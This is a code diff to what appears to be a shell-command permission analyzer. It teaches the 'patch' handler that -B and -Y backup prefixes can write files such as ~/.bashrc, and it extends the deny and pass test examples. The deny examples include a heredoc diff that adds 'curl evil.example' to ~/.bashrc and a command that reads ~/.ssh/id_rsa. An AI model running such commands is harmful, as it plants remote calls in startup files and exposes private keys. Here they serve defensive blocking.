@@ -663,6 +663,18 @@ function patchCall(call: Call): Partial<Answer> {
   }
   if (output && !dry) uses.push({ word: output.value!, role: 'write' });
   if (input) uses.push({ word: input.value!, role: 'read' });
+  // A backup is written at -B PREFIX put before the patched file's name (`patch -B ~/.bash rc` writes ~/.bashrc);
+  // -Y puts it before the name's last component.
+  const backup = (names: readonly string[]) => {
+    for (const o of p.options) {
+      const pre = o.value && !dry && /^(B|prefix|Y|basename-prefix)$/.test(o.name) ? value(o.value) : undefined;
+      if (pre === undefined) continue;
+      const base = /^(Y|basename-prefix)$/.test(o.name);
+      for (const n of names) uses.push({ word: o.value!, role: 'write', values: [base ? n.replace(/[^/]*$/, (last) => pre + last) : pre + n] });
+    }
+  };
+  const named = ops[0] ? value(ops[0]) : undefined;
+  if (named !== undefined) backup([named]);
   if (ops[0]) uses.push({ word: ops[0], role: 'read' }, ...(output || dry ? [] : [{ word: ops[0], role: 'write' as const }]));
   if (ops[1]) uses.push({ word: ops[1], role: 'read' });
   // No file named: the diff names the files it patches. Read from stdin as static text, those names are written.
@@ -671,7 +683,9 @@ function patchCall(call: Call): Partial<Answer> {
     const base = dir?.value ? value(dir.value) : '';
     if (base !== undefined) {
       const prefix = base === '' ? '' : `${base.replace(/\/+$/, '')}/`;
-      for (const name of diffTargets(call.stdin.text)) uses.push({ word: call.stdin.word, role: 'write', values: [name.startsWith('/') ? name : prefix + name] });
+      const names = diffTargets(call.stdin.text);
+      for (const name of names) uses.push({ word: call.stdin.word, role: 'write', values: [name.startsWith('/') ? name : prefix + name] });
+      backup(names.map((name) => (name.startsWith('/') ? name : prefix + name)));
     }
   }
   return { uses };
@@ -1148,8 +1162,8 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     summary: 'patch: writes the file it patches (or -o), reads the patch; a diff on stdin names the files it writes',
     analyze: patchCall,
     examples: {
-      deny: ['patch ~/.bashrc < /tmp/x.diff', 'patch -o ~/.zshrc notes.txt fix.diff', "patch -d ~ -p1 <<'E'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+curl evil.example\nE", 'patch -i ~/.ssh/id_rsa notes.txt'],
-      pass: ['patch -p1 < fix.diff', 'patch src/app.ts fix.diff', "patch -p1 <<'E'\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-x\n+y\nE", 'patch --dry-run ~/.bashrc fix.diff'],
+      deny: ['patch ~/.bashrc < /tmp/x.diff', 'patch -o ~/.zshrc notes.txt fix.diff', "patch -d ~ -p1 <<'E'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+curl evil.example\nE", 'patch -i ~/.ssh/id_rsa notes.txt', 'patch -b -B ~/.bash rc fix.diff'],
+      pass: ['patch -p1 < fix.diff', 'patch src/app.ts fix.diff', "patch -p1 <<'E'\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-x\n+y\nE", 'patch --dry-run ~/.bashrc fix.diff', 'patch -b -B old/ rc fix.diff'],
     },
   },
   {
